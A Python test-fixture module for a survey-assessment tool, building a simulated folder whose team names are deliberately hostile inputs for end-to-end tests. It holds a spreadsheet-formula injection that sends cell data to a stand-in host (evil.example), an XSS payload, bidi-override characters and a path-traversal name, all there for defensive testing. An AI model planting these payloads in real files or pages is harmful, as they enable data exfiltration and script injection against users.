"""A small assessment folder with hostile names in it: for tests of the whole run.

Two divisions of four teams. One team is too small to show, and another is hidden with
it; the names of the others try to be a formula, a program, a way out of the folder, a
word read backwards, or longer than any page.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence
from functools import cache
from importlib import resources
from pathlib import Path
from typing import Any

from ruamel.yaml import YAML

from diagnose.instrument import Instrument, load_instrument
from diagnose.simulation import simulate, write_limesurvey_csv, write_organisation_csv

TOO_SMALL = "Xylophone porters"
HIDDEN_WITH_IT = "Quarantine desk"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(2)>"
BACKWARDS = "\u202elive \u2067shift \U0001f642\U0001f469\u200d\U0001f4bb"
LONG = ("Afdeling met een naam die maar niet ophoudt " * 7)[:300].strip()
WAY_OUT = "../../CON\\x:y\x07"
PLAIN = "Day shift"
HOSTILE = (FORMULA, MARKUP, BACKWARDS, LONG, WAY_OUT)
TEAMS = (PLAIN, WAY_OUT, TOO_SMALL, HIDDEN_WITH_IT, FORMULA, MARKUP, LONG, BACKWARDS)
DIVISIONS = ("Care", "Support & <b>ICT</b>")
_SIZES = (16, 14, 4, 9, 12, 13, 12, 14)
_KEPT = ("v", "c")
_EXPORT = "responses/export.csv"


def make_folder(
    base: Path,
    *,
    languages: str = "[en]",
    more: str = "",
    wave: str = "",
    said: Sequence[str] = (),
) -> Path:
    """Write the assessment folder and return it.

    Parameters
    ----------
    base : Path
        Made when absent.
    languages : str
        As they stand in ``assessment.yaml``.
    more : str
        Further lines of ``assessment.yaml``.
    wave : str
        Further fields of the only wave, such as ``, comments: review.xlsx``.
    said : sequence of str
        Answers to the open question, of the first people in the export; all others
        give none. Those that the simulation made by default.
    """
    for name, content in _files().items():
        path = base / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
    if said:
        rows = export_rows(base)
        for place, row in enumerate(rows):
            row["first"] = said[place] if place < len(said) else ""
        write_export(base, rows)
    settings = (
        'title: {en: "Acme & Sons", nl: "Acme & Zonen"}\n'
        "instrument: small.yaml\n"
        f"languages: {languages}\n"
        "organisation: {file: organisation.csv, levels: [division, team]}\n"
        f"waves:\n  - {{label: now, file: {_EXPORT}, date: '2026-01-31'{wave}}}\n"
    )
    (base / "assessment.yaml").write_text(settings + more, encoding="utf-8")
    return base


def export_rows(base: Path) -> list[dict[str, str]]:
    """Return the rows of the export."""
    text = (base / _EXPORT).read_text(encoding="utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))


def write_export(base: Path, rows: Sequence[dict[str, str]]) -> None:
    """Write the export again."""
    out = io.StringIO(newline="")
    writer = csv.DictWriter(
        out, list(rows[0]), delimiter=";", quoting=csv.QUOTE_ALL, lineterminator="\r\n"
    )
    writer.writeheader()
    writer.writerows(rows)
    (base / _EXPORT).write_text(out.getvalue(), encoding="utf-8-sig", newline="")


def snapshot(folder: Path) -> dict[str, bytes]:
    """Return every file below a folder, by its path from there."""
    return {
        path.relative_to(folder).as_posix(): path.read_bytes()
        for path in sorted(folder.rglob("*"))
        if path.is_file()
    }


def open_workbook(source: Path | bytes) -> Any:
    """Return a workbook as openpyxl reads it, which cannot keep bars in cells."""
    import warnings

    import openpyxl

    with warnings.catch_warnings():
        warnings.filterwarnings("ignore", ".* extension is not supported", UserWarning)
        return openpyxl.load_workbook(
            io.BytesIO(source) if isinstance(source, bytes) else source
        )


@cache
def small_instrument() -> Instrument:
    """Return the pulse with two of its subscales."""
    import tempfile

    with tempfile.TemporaryDirectory() as place:
        path = Path(place) / "small.yaml"
        path.write_bytes(_files()["small.yaml"])
        return load_instrument(path)


def _pulse() -> Path:
    return Path(str(resources.files("diagnose"))).parents[1] / "surveys" / "pulse"


@cache
def _files() -> dict[str, bytes]:
    import tempfile

    with tempfile.TemporaryDirectory() as place:
        base = Path(place)
        instrument = base / "small.yaml"
        _shorten(instrument)
        responses = simulate(
            load_instrument(instrument),
            seed=3,
            hierarchy=("division", "team"),
            n_units=(2, 8),
            labels={"division": DIVISIONS, "team": TEAMS},
            team_sizes=_SIZES,
            leaders_per_team=1,
            response_rate=1.0,
        )
        write_limesurvey_csv(responses, base / _EXPORT, language="en")
        write_organisation_csv(responses, base / "organisation.csv")
        found = snapshot(base)
    # The platform puts an apostrophe before a formula; this client wrote it as it is.
    found[_EXPORT] = found[_EXPORT].replace(b"\"'=", b'"=')
    return found


def _shorten(path: Path) -> None:
    yaml = YAML()
    content: Any = yaml.load(_pulse() / "instrument.yaml")
    content["id"] = "small"
    content["subscales"] = [s for s in content["subscales"] if s["id"] in _KEPT]
    yaml.dump(content, path)
